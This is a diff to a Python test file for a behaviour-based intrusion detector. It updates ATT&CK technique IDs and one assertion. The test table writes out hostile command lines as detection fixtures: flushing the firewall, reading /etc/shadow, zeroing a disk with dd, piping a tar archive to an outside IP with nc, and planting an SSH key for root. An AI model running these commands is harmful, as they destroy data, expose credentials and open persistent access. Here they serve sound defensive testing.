@@ -5,6 +5,7 @@ from tests.detect.scene import Change, Tables, after, proc, sock, user
 
 from vedette.core import Row
 from vedette.detect.behaviour import BehaviourExpert
+from vedette.detect.behaviour.hostile import MARKS
 
 _DASH = "/usr/bin/dash"
 _BASH = "/usr/bin/bash"
@@ -60,7 +61,7 @@ HOSTILE: dict[str, tuple[str, str, Change]] = {
         run(proc(900, 41, "sh", _DASH, "sh -c ./x --y", 33)),
     ),
     "a reverse shell in one line of code": (
-        "T1059.004",
+        "T1059.006",
         "process:/usr/bin/python3.11",
         run(
             proc(
@@ -180,14 +181,14 @@ HOSTILE: dict[str, tuple[str, str, Change]] = {
         "process:/usr/bin/dash:0",
         by_shell("systemctl stop rsyslog"),
     ),
-    "a firewall emptied": ("T1562.001", "process:/usr/bin/dash:0", by_shell("iptables -F")),
+    "a firewall emptied": ("T1562.004", "process:/usr/bin/dash:0", by_shell("iptables -F")),
     "passwords read": (
         "T1003.008",
         "process:/usr/bin/cat",
         run(proc(900, 1, "cat", "/usr/bin/cat", "cat /etc/shadow")),
     ),
     "a disk overwritten": (
-        "T1485",
+        "T1561.001",
         "process:/usr/bin/dd",
         run(proc(900, 1, "dd", "/usr/bin/dd", "dd if=/dev/zero of=/dev/sda")),
     ),
@@ -197,7 +198,7 @@ HOSTILE: dict[str, tuple[str, str, Change]] = {
         by_shell("tar cz /srv | nc 198.51.100.66 9", 33),
     ),
     "a key written by a command": (
-        "T1053.003",
+        "T1098.004",
         "process:/usr/bin/dash:0",
         by_shell("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"),
     ),
@@ -294,4 +295,6 @@ def test_the_account_database_says_who_is_locked() -> None:
 
     shell = run(proc(900, 1, "bash", _BASH, "bash", 998))
     told = after(BehaviourExpert(), shell, before=unlock)
-    assert not [case for cases in told for case in cases if case.nats > 0]
+    texts = [case.text for cases in told for case in cases]
+    assert len(texts) == 1
+    assert not texts[0].startswith(MARKS["nologin"].text.split(":")[0])
